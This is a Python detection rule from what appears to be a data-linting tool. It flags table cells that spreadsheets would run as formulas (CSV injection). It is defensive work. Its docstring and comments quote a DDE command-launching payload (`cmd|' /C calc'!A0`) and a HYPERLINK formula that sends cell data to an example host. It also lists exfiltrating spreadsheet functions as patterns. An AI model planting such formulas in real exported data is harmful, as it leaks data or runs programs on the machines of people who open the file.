"""TAB005 formula-cell."""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import ClassVar, Final

from dsprep.folds.places import field_location
from dsprep.model import pointer as pointers
from dsprep.model.batch import Batch
from dsprep.model.finding import Finding, Severity
from dsprep.model.rule import ExampleRule, RuleMeta
from dsprep.text.sensitive.showing import beginning

#: What a formula begins with; tabs and line ends before it are dropped by spreadsheets. Full-width forms are what
#: Japanese input methods write, and spreadsheets take them for the same.
_START: Final = frozenset("=+-@\t\r\n＝＋－＠")
_SAME: Final = str.maketrans("＝＋－＠", "=+-@")
_EXCERPT: Final = 80
#: More than this of a cell is not looked at: a formula shows at once.
_LOOKED_AT: Final = 2_000

#: Functions that a formula is likely to begin with, and those that reach out of the sheet.
_FUNCTIONS: Final = (
    "ABS|ADDRESS|AND|AVERAGE|CALL|CELL|CHAR|CHOOSE|CLEAN|CODE|COLUMN|CONCAT|CONCATENATE|COUNT|COUNTA|COUNTIF|DATE|DAY|"
    "DDE|DOLLAR|EMBED|ENCODEURL|EXEC|EXACT|FILES|FILTERXML|FIND|FORMULATEXT|GOOGLEFINANCE|HYPERLINK|IF|IFERROR|IFNA|"
    "IMAGE|IMPORTDATA|IMPORTFEED|IMPORTHTML|IMPORTRANGE|IMPORTXML|INDEX|INDIRECT|INFO|INT|LEFT|LEN|LET|LOOKUP|LOWER|"
    "MATCH|MAX|MID|MIN|MOD|MSQUERY|MONTH|NOT|NOW|OFFSET|OR|PI|PRODUCT|PROPER|QUERY|RAND|RANDBETWEEN|REGISTER|REPLACE|"
    "REPT|RIGHT|ROUND|ROW|RTD|SEARCH|SQRT|STOCKHISTORY|SUBSTITUTE|SUBTOTAL|SUM|SUMIF|TEXT|TEXTJOIN|TODAY|TRIM|UPPER|"
    "VALUE|VLOOKUP|WEBSERVICE|XLOOKUP|YEAR"
)
_CELL: Final = r"\$?[A-Z]{1,3}\$?[1-9]\d{0,6}"
_SHEET: Final = r"(?:'[^'\n]{1,60}'|[A-Za-z_]\w{0,30})!"
_NUMBER: Final = r"(?:\d{1,15}(?:\.\d{1,15})?%?)"
_OPERAND: Final = rf"(?:{_NUMBER}|(?:{_SHEET})?{_CELL}(?::{_CELL})?|\"[^\"\n]{{0,200}}\")"

#: `cmd|' /C calc'!A0`: dynamic data exchange, which starts a program.
_EXCHANGE: Final = re.compile(r"[=+\-@][^|\n]{0,200}?[A-Za-z]\w{0,20}\s?\|\s?'?[^!\n]{0,300}!", re.IGNORECASE)
#: A known function, after whatever sign.
_CALL: Final = re.compile(rf"[=+\-@][=+\-@ ]{{0,3}}(?:_xlfn\.)?({_FUNCTIONS})\s?\(", re.IGNORECASE)
#: After an equals sign any function will do, if something closes it.
_ANY_CALL: Final = re.compile(r"=[+\-@]?[A-Za-z][A-Za-z0-9_.]{1,30}\([^\n]{0,500}\)")
#: A cell, a range, or sums of such, and of numbers, as the whole of what is in the cell.
_TERMS: Final = re.compile(rf"[=+\-@][+\-(]{{0,3}}{_OPERAND}\)?(?:\s?[-+*/^&<>=]{{1,2}}\s?\(?{_OPERAND}\)?){{0,20}}\s*")
#: A text, or a list, as a formula: `="001"`, `={1,2}`.
_CONSTANT: Final = re.compile(r"=\s?(?:\"(?:[^\"\n]|\"\"){0,500}\"|\{[^{}\n]{1,200}\})(?:\s?&.{0,500})?\s*")
#: What only looks like it: numbers, telephone numbers, ranges, dates, percentages.
_PLAIN: Final = re.compile(r"[+\-][\d\s().,/:%–-]*\s*[A-Za-z€$£%°]{0,4}")


class FormulaCell(ExampleRule):
    """A cell of a table would be run as a formula by a spreadsheet.

    ## What it does
    Looks at the cells of rows (of CSV files, and of JSON records that are no conversations) that begin with `=`, `+`,
    `-`, `@`, a tab or a line end, and reports those whose rest is a formula: a function, a reference to a cell, sums of
    such, a call to another program. Numbers, telephone numbers, list items, names such as `@somebody`, emoticons such
    as `=)` and rulers such as `=====` are none.

    ## Why it matters
    Whoever opens the table in a spreadsheet runs it: `=HYPERLINK(…)` and `=WEBSERVICE(…)` send other cells away,
    `=cmd|' /C calc'!A0` starts a program. Data that people typed into a form is where such cells come from. A model
    has no use for them either, unless it is to write formulas, and then this rule is not for you: it is off by default.

    ## Example
    ```
    text,label
    "=HYPERLINK(""https://example.com/?""&A2,""click"")",positive
    ```

    ## Fix
    None: put an apostrophe before the cell where it is exported to a spreadsheet, and leave the data as it is.

    ## Source
    OWASP, CSV Injection (https://owasp.org/www-community/attacks/CSV_Injection).
    """

    meta: ClassVar[RuleMeta] = RuleMeta(
        code="TAB005",
        name="formula-cell",
        severity=Severity.WARNING,
        message="a spreadsheet runs this cell as a formula: {excerpt}",
        summary="a cell that a spreadsheet would run as a formula",
        default=False,
    )

    def find(self, batch: Batch) -> Iterator[Finding]:
        for row, record in enumerate(batch.records):
            value = record.value
            if type(value) is not dict or "messages" in value:
                continue
            for name, cell in value.items():
                if type(cell) is str and cell[:1] in _START and _is_formula(cell):
                    yield self.finding(
                        field_location(batch, row, pointers.join([name])),
                        key=batch.key(row),
                        args={"excerpt": beginning(cell, _EXCERPT)},
                    )


def _is_formula(cell: str) -> bool:
    text = cell[:_LOOKED_AT].lstrip("\t\r\n")
    if text[:1] in "＝＋－＠":
        text = text[:1].translate(_SAME) + text[1:]
    if text[:1] not in ("=", "+", "-", "@") or len(text) < 2:
        return False
    if _EXCHANGE.match(text):
        return True
    if text[0] in "+-" and _PLAIN.fullmatch(text):
        return False
    call = _CALL.match(text)
    # People write small letters, and go on behind the brackets: `-call(me) maybe`.
    if call is not None and (text[0] == "=" or call[1].isupper() or text.rstrip().endswith(")")):
        return True
    if _CONSTANT.fullmatch(text):
        return True
    if text[0] == "=" and _ANY_CALL.match(text):
        return True
    if text[0] == "@" or (text[0] == "=" and text[1:].strip().isdecimal() and len(text) < 4):
        return False  # @a1 may be anybody's name, =3 is a mouth
    return _TERMS.fullmatch(text) is not None
